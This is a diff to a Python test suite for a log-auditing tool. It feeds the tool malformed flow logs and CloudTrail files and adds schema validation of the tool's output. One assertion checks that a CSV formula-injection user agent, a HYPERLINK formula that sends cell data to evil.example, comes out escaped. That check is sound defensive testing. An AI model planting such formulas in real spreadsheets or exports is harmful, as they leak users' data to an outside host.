@@ -8,8 +8,10 @@ Rows that damage the config, not the data, expect exit 2, a message naming the f
 
 from __future__ import annotations
 
+import csv
 import errno
 import gzip
+import json
 import os
 import socket
 import time
@@ -17,13 +19,17 @@ from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Callable
 
+import jsonschema
 import pytest
 
 from auditor import output
 from auditor.engines.sources import files as discovery
 from auditor.staging import StagingLock
-from tests.faults.project import (FLOW_DAY, FLOW_RECORDS, HEADER, RDP_EVENT, REJECTED, SCANNER, TRAIL_DAY, trail_events,
-                                  TRAIL_RECORDS, Run, event, flow_lines, good_record, make_project, run_cli)
+from tests.faults.project import (FLOW_DAY, FLOW_RECORDS, HEADER, RDP_EVENT, REJECTED, SCANNER, TRAIL_DAY,
+                                  TRAIL_RECORDS, Run, event, flow_lines, good_record, make_project, run_cli,
+                                  trail_events)
+
+SCHEMA = json.loads((Path(output.__file__).parent / "schemas" / "findings.schema.json").read_text())
 
 # --------------------------------------------------------------------------------------------- the rows
 
@@ -187,7 +193,6 @@ def trail_file(root: Path, name: str, data: bytes) -> None:
 
 
 def trail_json(*events: dict) -> bytes:
-    import json
     return json.dumps({"Records": list(events)}).encode()
 
 
@@ -281,7 +286,6 @@ def formula(root: Path) -> None:
 
 
 def checked_formula(run: Run) -> None:
-    import csv
     with open(run.out / "results" / "sg_changes.csv", newline="") as fh:
         rows = {r["event_id"]: r for r in csv.DictReader(fh)}
     assert rows["formula"]["user_agent"] == "'=HYPERLINK(\"http://evil.example/\"&A1,\"x\")"
@@ -382,10 +386,24 @@ def checked_trail_events(run: Run) -> None:
     assert events.count("DeleteSecurityGroup") == 1 and len(events) == TRAIL_RECORDS + 3
 
 
-def trail_from(records_null: bool) -> Callable[[Path], None]:
-    def make(root: Path) -> None:
-        trail_file(root, "null.json", b'{"Records": null}')
-    return make
+def checked_unlisted(run: Run) -> None:
+    assert run.file(BAD.rstrip("/"))["error"] == "cannot list the folder: Permission denied"
+    assert any("could not be read" in w and BAD.rstrip("/") in w for w in run.warnings)
+
+
+def checked_wrong_place(run: Run) -> None:
+    no_data(run)
+    assert run.file(BAD + "wrong.log")["malformed"] == 3
+
+
+def checked_header_only(run: Run) -> None:
+    entry = run.file(BAD + "header.log")
+    assert (entry["headers"], entry["records"], entry["error"]) == (1, 0, None)
+
+
+def checked_disk_folder(run: Run) -> None:
+    extra_counted("a.log", 3)(run)
+    assert not any(f["path"].endswith("x.log.gz") for f in run.files)
 
 
 def timezone_event(root: Path) -> None:
@@ -417,18 +435,15 @@ ROWS = (
         lambda run: unreadable_error(run, "locked.log.gz", "cannot be read: ")),
     Row("a FIFO and a socket named like flow logs", special_files, 0, checked_special),
     Row("--strict turns an unreadable file into exit 3", lambda r: flow_file(r, "zero.log.gz", b""), 3,
-        lambda run: unreadable_error(run, "zero.log.gz", "empty file") or None, args=("--strict",)),
+        lambda run: unreadable_error(run, "zero.log.gz", "empty file"), args=("--strict",)),
     # -- defect 2: an unreadable subfolder is a data-quality error and a warning
-    Row("an unreadable subfolder", hidden_folder, 0,
-        lambda run: (run.file(BAD.rstrip("/"))["error"] == "cannot list the folder: Permission denied"
-                     and any("could not be read" in w for w in run.warnings)) or _fail(run),
-        patch=deny_listing),
+    Row("an unreadable subfolder", hidden_folder, 0, checked_unlisted, patch=deny_listing),
     # -- defect 3: symlinks are followed once
     Row("a symbolic link loop", symlink_loop, 0, checked_loop),
     Row("dangling symbolic links and a loop under CloudTrail", dangling, 0, checked_dangling),
     # -- defect 4: deep JSON is malformed
     Row("CloudTrail of 200,000 nested brackets", deep_json, 0,
-        lambda run: ct_entry(run, "deep.json")["malformed"] == 1 or _fail(run)),
+        lambda run: ct_entry(run, "deep.json")["malformed"] == 1 or pytest.fail("not malformed")),
     # -- defect 5: one odd event never disables sg_changes
     Row("event times with a comma fraction and a spaced Z", odd_times, 0, checked_odd_times),
     Row("non-JSON requestParameters", bad_request, 0, checked_bad_request),
@@ -436,8 +451,8 @@ ROWS = (
     Row("a user agent that is a formula", formula, 0, checked_formula),
     # -- defect 7: no data never says pass
     Row("an empty flow-log folder", lambda r: None, 3, no_data, flows=False),
-    Row("flow logs pointed at the wrong place (every line malformed)", all_malformed, 3,
-        lambda run: (no_data(run), run.file(BAD + "wrong.log")["malformed"] == 3 or _fail(run)), flows=False),
+    Row("flow logs pointed at the wrong place (every line malformed)", all_malformed, 3, checked_wrong_place,
+        flows=False),
     # -- defect 8: results do not depend on the host's time zone
     Row("a zone-less eventTime under TZ=Pacific/Kiritimati", timezone_event, 0, checked_timezone,
         env={"TZ": "Pacific/Kiritimati"}),
@@ -483,26 +498,19 @@ ROWS = (
     # -- the extra list: most of these worked, and keep working
     Row("CRLF line ends", lambda r: flow_file(r, "crlf.log", text(HEADER, *flow_lines(*EXTRA), eol="\r\n")), 0,
         extra_counted("crlf.log", 3, malformed=0, headers=1)),
-    Row("a header-only file", lambda r: flow_file(r, "header.log", text(HEADER)), 0,
-        lambda run: (run.file(BAD + "header.log")["headers"] == 1 and run.file(BAD + "header.log")["records"] == 0
-                     and run.file(BAD + "header.log")["error"] is None) or _fail(run)),
+    Row("a header-only file", lambda r: flow_file(r, "header.log", text(HEADER)), 0, checked_header_only),
     Row("extra and missing fields", missing_fields, 0, extra_counted("fields.log", 3, malformed=2)),
     Row("non-UTF-8 bytes", lambda r: flow_file(r, "latin.log", EXTRA_TEXT + b"2 111122223333 eni-\xe9 x\n"), 0,
         one_malformed("latin.log")),
     Row("a 20 MB single line", huge_line, 0, one_malformed("huge.log")),
-    Row("a folder named x.log.gz", disk_folder, 0,
-        lambda run: (extra_counted("a.log", 3)(run), not any(f["path"].endswith("x.log.gz") for f in run.files))
-        and None),
-    Row('{"Records": null}', trail_from(True), 0, lambda run: ct_entry(run, "null.json")["malformed"] == 1 or _fail(run)),
+    Row("a folder named x.log.gz", disk_folder, 0, checked_disk_folder),
+    Row('{"Records": null}', lambda r: trail_file(r, "null.json", b'{"Records": null}'), 0,
+        lambda run: ct_entry(run, "null.json")["malformed"] == 1 or pytest.fail("not malformed")),
     Row("events missing eventTime, eventID or requestParameters, and duplicate event IDs", trail_events_file, 0,
         checked_trail_events),
     Row("--strict turns a malformed line into exit 3", lambda r: flow_file(r, "latin.log", EXTRA_TEXT + b"\xff\n"), 3,
         one_malformed("latin.log"), args=("--strict",)),
 )
-
-
-def _fail(run: Run) -> None:
-    raise AssertionError(run.output)
 
 
 # ---------------------------------------------------------------------------------------------- the test
@@ -530,6 +538,7 @@ def test_fault(row: Row, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Non
     if run.doc is None:
         row.check(run)
         return
+    jsonschema.validate(run.doc, SCHEMA)  # no_data, invalid counts and file errors are part of the contract
     # The good records beside the fault were all counted, and still make their findings.
     if row.flows:
         assert run.records_under("flows/" + FLOW_DAY + "/10") + run.records_under("flows/" + FLOW_DAY + "/11") \
